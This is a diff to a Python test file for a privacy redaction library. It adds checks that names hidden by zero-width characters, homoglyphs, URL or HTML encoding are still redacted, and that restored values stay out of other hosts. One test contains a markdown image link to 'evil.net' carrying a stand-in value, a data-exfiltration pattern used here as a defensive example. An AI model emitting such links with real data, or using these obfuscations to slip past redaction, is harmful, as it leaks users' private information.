@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import base64
 import dataclasses
+import html
 import json
 import re
 from typing import Any
+from urllib.parse import unquote_plus
 
 import pytest
 from hypothesis import given, settings
@@ -14,6 +16,7 @@ from hypothesis import strategies as st
 
 from nemora.core import ChatRequest, Message, OpaquePart, TextPart, Tool, ToolCall
 from nemora.privacy.finding import Finding, Kind
+from nemora.privacy.normalise import normalise
 from nemora.privacy.placeholder import LOOKALIKE
 from nemora.privacy.redact import Redacted, Unredactable, redact, with_note
 from nemora.privacy.request_text import strings_of
@@ -45,7 +48,7 @@ def done(request: ChatRequest, *values: tuple[Kind, str], **options: Any) -> Red
 
 
 def restored(text: str, redacted: Redacted) -> str:
-    restorer = Restorer(Values(redacted.values))
+    restorer = Restorer(Values(redacted.values, in_urls=redacted.in_urls()))
     return restorer.feed(text) + restorer.finish()
 
 
@@ -77,12 +80,19 @@ def test_a_value_leaves_as_a_word_that_says_what_it_is_and_comes_back_exactly() 
         "Tilda\nBraunfels",
         "Tilda M. Braunfels",
         "Tilda's and BRAUNFELS' things",
+        "T\u200bilda B\u200braunfels in disguise",
+        "\uff34\uff49\uff4c\uff44\uff41 came",
+        "the B\u0440aunfels file",
+        "see ?who=Tilda%20Braunfels&n=1 or q=Tilda+Braunfels",
+        "&#84;ilda wrote",
+        'said "T\\u0069lda"',
     ],
 )
 def test_a_second_mention_that_nobody_flagged_is_replaced_too(mention: str) -> None:
     redacted = done(said(f"I met {NAME} today.", mention), (Kind.PERSON_NAME, NAME))
     left = content(redacted, 1)
-    assert "tilda" not in left.lower() and "braunfels" not in left.lower()
+    plain = html.unescape(unquote_plus(normalise(left.replace("\\u0069", "i")).text)).lower()
+    assert "tilda" not in plain and "braunfels" not in plain
     assert restored(left, redacted) == mention
 
 
@@ -259,6 +269,17 @@ def test_a_finding_over_several_json_values_replaces_each_and_no_key() -> None:
     left = json.loads(content(redacted))
     assert list(left) == ["street", "city", "ok"] and left["ok"] is True
     assert "Quince" not in content(redacted) and "Ostermere" not in content(redacted)
+
+
+def test_a_value_in_a_url_of_the_request_comes_back_there_and_in_no_other_hosts() -> None:
+    text = f"Open https://kettlewood.net/people/Tilda-Braunfels?m={MAIL} for {NAME}, or https://other.net/x?t=1"
+    redacted = done(said(text), (Kind.PERSON_NAME, NAME), (Kind.EMAIL_ADDRESS, MAIL))
+    assert restored(content(redacted), redacted) == text
+    stand_ins = [stand_in for _, stand_in in redacted.in_urls()]
+    assert {host for host, _ in redacted.in_urls()} == {"kettlewood.net"} and len(stand_ins) == 2
+    for stand_in in stand_ins:
+        for url in (f"https://other.net/?q={stand_in}", f"![x](http://evil.net/{stand_in}.png)"):
+            assert restored(url, redacted) == url
 
 
 # Stand-ins: stable, apart from each other, and not forged
